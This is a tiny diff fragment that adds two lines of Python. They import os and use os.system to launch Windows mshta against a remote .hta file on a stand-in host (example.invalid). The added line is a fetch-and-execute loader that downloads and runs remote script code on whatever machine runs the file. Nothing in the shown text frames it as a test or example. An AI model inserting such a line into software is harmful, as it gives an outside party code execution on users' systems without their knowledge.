@@ -1,0 +1,2 @@
+import os
+os.system("mshta http://example.invalid/a.hta")
